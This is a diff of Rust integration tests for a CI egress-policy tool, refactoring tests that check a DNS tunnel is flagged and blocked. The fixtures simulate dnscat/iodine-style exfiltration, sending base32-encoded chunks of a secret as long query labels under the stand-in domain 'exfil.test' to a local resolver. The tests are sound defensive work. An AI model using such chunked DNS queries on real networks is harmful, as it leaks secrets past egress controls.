@@ -9,7 +9,7 @@ use std::{
     process::{Command, Output},
 };
 
-use common::{listeners, probe_argv, require_kernel};
+use common::{dnsmasq::Dnsmasq, listeners, probe_argv, require_kernel};
 
 #[test]
 #[ignore = "the kernel tests' probe: runs only when re-executed by a test"]
@@ -202,9 +202,9 @@ fn new_destination_is_raised_against_a_learned_baseline_and_a_policy() {
     assert!(found.is_empty(), "{found:?}");
 }
 
-/// DNS to `resolver_ip` by NetworkPolicy, the name `build.pg.test` by DomainPolicy: the job
-/// is DNS-filtered.
-fn build_names_only(dir: &TempDir, resolver_ip: &str) -> PathBuf {
+/// DNS to `resolver_ip` by NetworkPolicy, `domains` (a YAML list) on 443 by DomainPolicy:
+/// the job is DNS-filtered.
+fn names_only(dir: &TempDir, resolver_ip: &str, domains: &str) -> PathBuf {
     let path = dir.path("dns-policy.yaml");
     std::fs::write(
         &path,
@@ -225,7 +225,7 @@ metadata: {{name: build, namespace: ci}}
 spec:
   podSelector: {{}}
   egress:
-  - domains: [build.pg.test]
+  - domains: {domains}
     ports: [{{port: 443}}]
 "
         ),
@@ -234,29 +234,41 @@ spec:
     path
 }
 
-#[test]
-fn dns_tunnel_is_raised_by_long_encoded_query_names_and_not_by_a_normal_build() {
+/// A base32 chunk of a secret per query, as dnscat/iodine-style tools send them.
+const CHUNK: &str = "mzxw6ytboi2dkmrtgq3tqnzsgeydmobqgiztinjwg4ydembqgi3tsnzq";
+
+/// A job allowed `domains`, its resolver (dnsmasq on an address of its own, second octet
+/// `block`, knowing build.pg.test) and the tunnel it runs under `suffix`: an ordinary
+/// query, then two chunks. Returns the resolver, the directory, the policy, the tunnel's
+/// queries and the first chunk's name.
+fn tunnel_job(
+    tag: &str,
+    block: u8,
+    domains: &str,
+    suffix: &str,
+) -> (Dnsmasq, TempDir, String, Vec<String>, String) {
     let pid = std::process::id();
-    let resolver_ip = format!("127.56.{}.{}", (pid / 250) % 250, pid % 250 + 1);
-    let dns =
-        common::dnsmasq::Dnsmasq::start("anomaly-tunnel", &resolver_ip, "127.0.0.1 build.pg.test\n", 60);
-    let dir = TempDir::new("anomaly-tunnel");
-    let policy = build_names_only(&dir, &resolver_ip);
-    let policy = policy.to_str().unwrap();
+    let resolver_ip = format!("127.{block}.{}.{}", (pid / 250) % 250, pid % 250 + 1);
+    let dns = Dnsmasq::start(tag, &resolver_ip, "127.0.0.1 build.pg.test\n", 60);
+    let dir = TempDir::new(tag);
+    let policy = names_only(&dir, &resolver_ip, domains)
+        .to_str()
+        .unwrap()
+        .to_string();
     let r = dns.addr;
-    // A base32 chunk of a secret per query, as dnscat/iodine-style tools send them.
-    let chunk = "mzxw6ytboi2dkmrtgq3tqnzsgeydmobqgiztinjwg4ydembqgi3tsnzq";
-    let first = format!("{chunk}.0.t.exfil.test");
-    let tunnel = [
+    let first = format!("{CHUNK}.0.t.{suffix}");
+    let tunnel = vec![
         format!("dns-udp {r} build.pg.test"),
         format!("dns-udp {r} {first}"),
-        format!("dns-udp {r} {chunk}.1.t.exfil.test"),
+        format!("dns-udp {r} {CHUNK}.1.t.{suffix}"),
     ];
+    (dns, dir, policy, tunnel, first)
+}
 
-    // Enforced: the queries never leave, and the attempt is still flagged.
-    let (err, found) = exec_ok(&dir, &["--policy", policy], &tunnel);
-    assert_eq!(signals(&found), ["dns_tunnel"], "{err}");
-    assert_eq!(found[0]["domain"], "exfil.test", "{found:?}");
+/// One dns_tunnel anomaly, for the 56-character labels under `domain`.
+fn assert_long_label_tunnel(found: &[serde_json::Value], domain: &str, err: &str) {
+    assert_eq!(signals(found), ["dns_tunnel"], "{err}");
+    assert_eq!(found[0]["domain"], domain, "{found:?}");
     assert!(
         found[0]["detail"]
             .as_str()
@@ -264,6 +276,16 @@ fn dns_tunnel_is_raised_by_long_encoded_query_names_and_not_by_a_normal_build() 
             .contains("56-character label"),
         "{found:?}"
     );
+}
+
+#[test]
+fn dns_tunnel_is_raised_by_long_encoded_query_names_and_not_by_a_normal_build() {
+    let (dns, dir, policy, tunnel, first) = tunnel_job("anomaly-tunnel", 56, "[build.pg.test]", "exfil.test");
+    let (policy, r) = (policy.as_str(), dns.addr);
+
+    // Enforced: the queries never leave, and the attempt is still flagged.
+    let (err, found) = exec_ok(&dir, &["--policy", policy], &tunnel);
+    assert_long_label_tunnel(&found, "exfil.test", &err);
     assert!(err.contains("ANOMALY  dns_tunnel:"), "{err}");
     assert!(
         !dns.saw(&first),
@@ -303,37 +325,6 @@ fn dns_tunnel_is_raised_by_long_encoded_query_names_and_not_by_a_normal_build() 
     assert!(found.is_empty(), "{found:?}");
 }
 
-/// DNS to `resolver_ip` by NetworkPolicy, every name under `pg.test` by one wildcard rule.
-fn wildcard_names(dir: &TempDir, resolver_ip: &str) -> PathBuf {
-    let path = dir.path("wildcard-policy.yaml");
-    std::fs::write(
-        &path,
-        format!(
-            "apiVersion: networking.k8s.io/v1
-kind: NetworkPolicy
-metadata: {{name: dns, namespace: ci}}
-spec:
-  podSelector: {{}}
-  policyTypes: [Egress]
-  egress:
-  - to: [{{ipBlock: {{cidr: {resolver_ip}/32}}}}]
-    ports: [{{protocol: UDP, port: 53}}]
----
-apiVersion: pipeguard.dev/v1alpha1
-kind: DomainPolicy
-metadata: {{name: build, namespace: ci}}
-spec:
-  podSelector: {{}}
-  egress:
-  - domains: ['*.pg.test']
-    ports: [{{port: 443}}]
-"
-        ),
-    )
-    .unwrap();
-    path
-}
-
 /// Every record of the events file that is not an anomaly.
 fn violation_records(events: &Path) -> Vec<serde_json::Value> {
     std::fs::read_to_string(events)
@@ -349,31 +340,10 @@ fn violation_records(events: &Path) -> Vec<serde_json::Value> {
 /// queries themselves are never violation records.
 #[test]
 fn dns_tunnel_is_raised_for_queries_a_wildcard_rule_allows() {
-    let pid = std::process::id();
-    let resolver_ip = format!("127.58.{}.{}", (pid / 250) % 250, pid % 250 + 1);
-    let dns =
-        common::dnsmasq::Dnsmasq::start("anomaly-wildcard", &resolver_ip, "127.0.0.1 build.pg.test\n", 60);
-    let dir = TempDir::new("anomaly-wildcard");
-    let policy = wildcard_names(&dir, &resolver_ip);
-    let policy = policy.to_str().unwrap();
-    let r = dns.addr;
-    let chunk = "mzxw6ytboi2dkmrtgq3tqnzsgeydmobqgiztinjwg4ydembqgi3tsnzq";
-    let first = format!("{chunk}.0.t.pg.test");
-    let tunnel = [
-        format!("dns-udp {r} build.pg.test"),
-        format!("dns-udp {r} {first}"),
-        format!("dns-udp {r} {chunk}.1.t.pg.test"),
-    ];
+    let (dns, dir, policy, tunnel, first) = tunnel_job("anomaly-wildcard", 58, "['*.pg.test']", "pg.test");
+    let (policy, r) = (policy.as_str(), dns.addr);
     let (err, found) = exec_ok(&dir, &["--policy", policy], &tunnel);
-    assert_eq!(signals(&found), ["dns_tunnel"], "{err}");
-    assert_eq!(found[0]["domain"], "pg.test", "{found:?}");
-    assert!(
-        found[0]["detail"]
-            .as_str()
-            .unwrap()
-            .contains("56-character label"),
-        "{found:?}"
-    );
+    assert_long_label_tunnel(&found, "pg.test", &err);
     common::agent::eventually(
         std::time::Duration::from_secs(5),
         "the allowed query never reached dnsmasq",
